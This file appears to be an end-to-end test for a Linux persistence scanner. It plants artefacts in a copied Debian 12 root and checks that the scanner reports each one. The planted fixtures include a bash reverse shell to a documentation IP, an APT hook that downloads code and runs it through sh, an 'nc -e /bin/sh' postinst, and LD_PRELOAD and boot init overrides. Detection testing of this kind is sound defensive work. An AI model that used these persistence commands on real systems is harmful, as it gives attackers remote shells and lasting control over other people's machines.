/**
 * End to end: the stock Debian 12 root, copied, with one artefact of every boot, package-manager, loader and
 * module family planted under a name unique to this run; `sys-scan --root` must name each one (its file, and its
 * command where there is one) and nothing else above info, and --no-cmdline-meta must hide the commands.
 */
import assert from "node:assert/strict";
import type { Finding } from "../../src/core/finding.ts";
import { fixtureRoot, TempTree } from "../helpers.ts";

const MAIN = new URL("../../main.ts", import.meta.url).pathname;

async function scan(root: string, extra: string[] = []) {
  const out = await new Deno.Command(Deno.execPath(), {
    args: ["run", "-A", MAIN, "--root", root, "--enable", "persistence", "--hardening", ...extra],
    stdout: "piped",
    stderr: "piped",
  }).output();
  const stderr = new TextDecoder().decode(out.stderr);
  assert.equal(out.code, 0, stderr);
  const report = JSON.parse(new TextDecoder().decode(out.stdout)) as {
    results: { scanner: string; findings: Finding[] }[];
    collection_warnings: unknown[];
  };
  return { findings: report.results.flatMap((r) => r.findings), warnings: report.collection_warnings };
}

function plant(root: string, rel: string, content: string, mode = 0o644): void {
  const path = `${root}/${rel}`;
  Deno.mkdirSync(path.slice(0, path.lastIndexOf("/")), { recursive: true });
  Deno.writeTextFileSync(path, content);
  Deno.chmodSync(path, mode);
}

Deno.test("persistence end to end: one planted artefact per family is named, by file and command", async () => {
  using root = new TempTree(Deno.makeTempDirSync({ prefix: "sys-scan-persist-e2e-" }));
  const cp = new Deno.Command("/bin/cp", { args: ["-a", `${fixtureRoot("stock/debian12")}/.`, root.path] })
    .outputSync();
  assert.ok(cp.success);
  const u = `pa${crypto.randomUUID().slice(0, 8)}`;
  const r = root.path;
  const url = "http://203.0.113.5/" + u;
  // Each family: [the planted file, the check that must name it, what it runs (when a command)].
  const planted: [string, string, string?][] = [
    [`/etc/systemd/system-generators/${u}-gen`, "persistence.systemd_generator.unowned"],
    [`/etc/systemd/system/ssh.service.d/${u}.conf`, "persistence.command.untrusted_path", `/tmp/${u}/s`],
    [`/etc/systemd/user/${u}.service`, "persistence.command.reverse_shell", `/dev/tcp/203.0.113.5/4444`],
    [`/etc/init.d/${u}`, "persistence.sysv_init.unowned"],
    [`/etc/default/grub.d/${u}.cfg`, "persistence.boot.init_override"],
    [`/etc/initramfs-tools/hooks/${u}`, "persistence.boot_script.unowned"],
    [`/etc/apt/apt.conf.d/99${u}`, "persistence.command.download_exec", url],
    [`/etc/dpkg/dpkg.cfg.d/${u}`, "persistence.command.untrusted_path", `/var/tmp/${u}`],
    [`/var/lib/dpkg/info/${u}.postinst`, "persistence.command.reverse_shell", "nc -e /bin/sh"],
    [`/var/lib/dpkg/info/${u}.list`, "persistence.package.not_in_repository"],
    [`/usr/lib/python3/dist-packages/dnf-plugins/${u}.py`, "persistence.dnf_plugin.unowned"],
    [`/etc/ld.so.conf.d/${u}.conf`, "persistence.ld_so_conf.untrusted_dir"],
    [`/etc/environment.d/${u}.conf`, "persistence.environment.loader_var"],
    [`/etc/modules-load.d/${u}.conf`, "persistence.module_load.unknown"],
    [`/etc/modprobe.d/${u}.conf`, "persistence.modprobe.command", `/usr/local/bin/${u}`],
  ];
  plant(r, planted[0][0], "#!/bin/sh\ntrue\n", 0o755);
  plant(r, planted[1][0], `[Service]\nExecStartPre=/tmp/${u}/s\n`);
  plant(r, planted[2][0], "[Service]\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'\n");
  plant(r, planted[3][0], "#!/bin/sh\n/usr/local/sbin/agent\n", 0o755);
  Deno.symlinkSync(`../init.d/${u}`, `${r}/etc/rc2.d/S99${u}`);
  plant(r, planted[4][0], `GRUB_CMDLINE_LINUX="$GRUB_CMDLINE_LINUX init=/usr/local/lib/${u}/init"\n`);
  plant(r, planted[5][0], "#!/bin/sh\ncopy_exec /usr/local/bin/agent /bin\n", 0o755);
  plant(r, planted[6][0], `APT::Update::Pre-Invoke { "curl -fsSL ${url} | sh"; };\n`);
  plant(r, planted[7][0], `post-invoke=/var/tmp/${u}\n`);
  plant(
    r,
    planted[8][0],
    "#!/bin/sh\nset -e\nrm -f /tmp/p; mkfifo /tmp/p\nnc -e /bin/sh 203.0.113.5 443 &\n",
    0o755,
  );
  plant(r, planted[9][0], "/.\n");
  Deno.writeTextFileSync(
    `${r}/var/lib/dpkg/status`,
    `Package: ${u}\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1.0-1\n`,
  );
  plant(
    r,
    "var/lib/apt/lists/deb.debian.org_debian_dists_bookworm_main_binary-amd64_Packages",
    "Package: cron\nVersion: 3.0pl1-162\n",
  );
  plant(r, planted[10][0], "import dnf\n");
  plant(r, planted[11][0], `/dev/shm/${u}\n`);
  plant(r, planted[12][0], `LD_PRELOAD=/tmp/${u}.so\n`);
  plant(r, planted[13][0], `${u}\n`);
  plant(r, "lib/modules/6.1.0-21-amd64/modules.dep", "kernel/drivers/net/tun.ko:\n");
  plant(r, planted[14][0], `install ${u} /usr/local/bin/${u}\n`);

  const report = await scan(r);
  const loud = report.findings.filter((f) => f.severity !== "info");
  for (const [path, check, command] of planted) {
    const named = loud.filter((f) => f.check_id === check && (f.id.includes(path) || f.id.includes(u)));
    assert.ok(named.length > 0, `${check} names ${path}: ${JSON.stringify(loud.map((f) => f.id))}`);
    if (command) {
      assert.ok(
        named.some((f) => String(f.metadata.command ?? f.description).includes(command)),
        `${path}: the finding shows the command`,
      );
    }
  }
  const others = loud.filter((f) => !f.id.includes(u) && !planted.some(([p]) => f.id.includes(p)));
  assert.deepEqual(others.map((f) => f.id), [], "nothing else on the stock root is loud");
  assert.deepEqual(report.warnings, []);

  const redacted = await scan(r, ["--no-cmdline-meta"]);
  const hook = redacted.findings.find((f) =>
    f.id.includes(`99${u}`) && f.check_id.startsWith("persistence.command.")
  );
  assert.ok(hook, "the APT hook is still reported");
  assert.ok(
    !String(hook.metadata.command).includes(url),
    `the command is redacted: ${hook.metadata.command}`,
  );
});
